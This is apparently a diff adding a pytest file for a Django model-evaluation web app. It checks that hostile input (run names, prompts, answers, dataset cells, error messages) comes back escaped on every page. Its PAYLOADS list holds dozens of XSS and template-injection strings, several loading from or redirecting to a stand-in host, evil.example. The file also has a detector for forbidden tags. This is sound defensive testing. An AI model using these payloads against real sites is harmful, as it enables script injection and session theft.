@@ -1,0 +1,203 @@
+"""Names, prompts, answers, cells and errors are text from outside: pages show them as text."""
+
+from html.parser import HTMLParser
+
+import pytest
+from django.urls import reverse
+
+from runs.models import Dataset, EventLevel, RunEvent
+from runs.services.datasets import store_rows
+from tests.runs.page_parts import (
+    add_candidate,
+    add_score,
+    client_of,
+    make_dataset,
+    make_endpoint,
+    make_person,
+    make_run,
+    run_document,
+)
+
+pytestmark = pytest.mark.django_db
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></ScRiPt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover='alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "</pre><iframe src=javascript:alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<!--<script>alert(1)</script>-->",
+    "<a href=javascript:alert(1)>x</a>",
+    "<form action=//evil.example><input type=submit>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>@import '//evil.example'</style>",
+    "<object data=//evil.example></object>",
+    "<embed src=//evil.example>",
+    "<video><source onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mi xlink:href=javascript:alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<body onload=alert(1)>",
+    "<input onfocus=alert(1) autofocus>",
+    "<isindex action=javascript:alert(1)>",
+    "{{ 7|add:7 }}{% load static %}{# x #}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "![x](https://evil.example/?q=1)",
+    "[x](javascript:alert(1))",
+    "\u202e<script>\u202c",
+    "\ufeff<script>alert(1)</script>",
+    "<\u0000script>alert(1)</script>".replace("\u0000", ""),
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003e",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "\x1b[31mred\x1b[0m",
+    "= 1 + 1",
+    "a" * 5000 + "<script>",
+]
+
+FORBIDDEN = {"img", "iframe", "object", "embed", "base", "video", "math", "style", "animate"}
+
+
+class MarkupFinder(HTMLParser):
+    """Reads a page as a browser would and notes every tag or attribute that is not ours."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        known = {name: value or "" for name, value in attributes}
+        if tag in FORBIDDEN or (tag == "script" and not is_our_script(known)):
+            self.found.append(self.get_starttag_text() or tag)
+        for name, value in known.items():
+            if name.startswith("on") or value.strip().lower().startswith("javascript:"):
+                self.found.append(self.get_starttag_text() or name)
+            if name in ("href", "src", "action") and "evil.example" in value.split("?")[0]:
+                self.found.append(self.get_starttag_text() or name)
+
+
+def is_our_script(attributes: dict[str, str]) -> bool:
+    source = attributes.get("src", "")
+    return source.startswith("/static/") or attributes.get("type") == "application/json"
+
+
+def foreign_markup(page: str) -> list[str]:
+    finder = MarkupFinder()
+    finder.feed(page)
+    return finder.found
+
+
+def test_the_finder_finds_what_it_should():
+    assert foreign_markup("<p>text</p>") == []
+    assert all(foreign_markup(payload) for payload in PAYLOADS[:7])
+
+
+@pytest.fixture
+def ada():
+    return make_person("ada", staff=True)
+
+
+@pytest.fixture
+def run(ada):
+    """A run in which everything that can come from outside is hostile."""
+    dataset = store_rows(ada, "cells", [{"question": text, "expected": text} for text in PAYLOADS])
+    run = make_run(ada, dataset, done=2, failed=1, scored=1)
+    candidates = [hostile_candidate(run, text) for text in PAYLOADS]
+    position = 0
+    for text, case, candidate in zip(PAYLOADS, dataset.cases.all(), candidates, strict=True):
+        judged = [["exact", 0.0, False, text]]
+        add_score(run, case, candidate, position, answer=text, details=judged)
+        tried = [["call", "server_error", 1.0, 1.0, text]]
+        failed = {"error_class": "server_error", "error_message": text[:500], "attempts": tried}
+        add_score(run, case, candidate, position + 1, repeat=1, **failed)
+        RunEvent.objects.create(run=run, level=EventLevel.ERROR, message=text[:500])
+        position += 2
+    return run
+
+
+def hostile_candidate(run, text):
+    candidate = add_candidate(run)
+    candidate.name = text[:250]
+    candidate.document = {
+        "prompt": {"name": text[:100], "system": text, "user": text},
+        "model": {"endpoint": "simulated", "model": text[:190], "parameters": {}},
+    }
+    candidate.save()
+    return candidate
+
+
+def read(client, address: str) -> list[str]:
+    answer = client.get(address)
+    assert answer.status_code == 200, address
+    return foreign_markup(answer.content.decode())
+
+
+def test_hostile_texts_stay_text_on_the_pages_of_a_run(ada, run):
+    client, tabs = client_of(ada), ("run", "run_scores", "run_errors", "run_events")
+    addresses = [reverse(name, args=[run.pk]) for name in (*tabs, "run_leaderboard")]
+    addresses.append(run.dataset.get_absolute_url())
+    assert {address: found for address in addresses if (found := read(client, address))} == {}
+
+
+def test_hostile_texts_stay_text_on_the_pages_of_trials(ada, run):
+    client = client_of(ada)
+    for position in range(2 * len(PAYLOADS)):
+        address = reverse("trial", args=[run.pk, position])
+        assert read(client, address) == [], PAYLOADS[position // 2]
+
+
+def test_hostile_names_and_documents_stay_text(ada):
+    client, dataset = client_of(ada), make_dataset(ada)
+    for text in PAYLOADS:
+        prompt = {"name": text[:100], "system": text, "user": text}
+        document = run_document(dataset, name=text[:100], prompts=[prompt])
+        named = {"name": text[:120], "reason": text[:300], "document": document}
+        run = make_run(ada, dataset, **named)
+        for address in (run.get_absolute_url(), reverse("run_configuration", args=[run.pk])):
+            assert read(client, address) == [], text
+        assert read(client, f"{reverse('run_new')}?run={run.pk}") == [], text
+    assert read(client, reverse("runs")) == []
+
+
+def test_hostile_names_of_models_and_datasets_stay_text(ada):
+    endpoint = make_endpoint()
+    endpoint.model_names = PAYLOADS
+    endpoint.save()
+    for text in PAYLOADS[:30]:
+        Dataset.objects.create(name=text, columns=[text], rows=1, digest="x")
+    addresses = [reverse(name) for name in ("endpoints", "datasets", "run_new")]
+    for address in (*addresses, endpoint.get_absolute_url()):
+        assert read(client_of(ada), address) == [], address
+
+
+@pytest.mark.parametrize("text", PAYLOADS[:14], ids=lambda text: text[:40])
+def test_what_is_typed_comes_back_as_text(ada, text):
+    client = client_of(ada)
+    typed = dict.fromkeys(
+        ("name", "prompt-0-user", "other_models", "dataset", "yaml", "seed"), text
+    )
+    for name, data in (
+        ("run_new", {**typed, "prompts": ["0"], "rows": text, "dataset_source": "paste"}),
+        ("run_new", {**typed, "mode": "yaml"}),
+        ("dataset_import", {"name": text, "text": f"{text}\n{text},", "step": "preview"}),
+        ("endpoint_new", {"name": text, "base_url": text, "model_names": text}),
+    ):
+        answer = client.post(reverse(name), data)
+        assert answer.status_code == 400
+        assert foreign_markup(answer.content.decode()) == [], name
+    for field in ("q", "state", "kind", "before"):
+        page = client.get(reverse("runs"), {field: text}).content.decode()
+        assert foreign_markup(page) == [], field
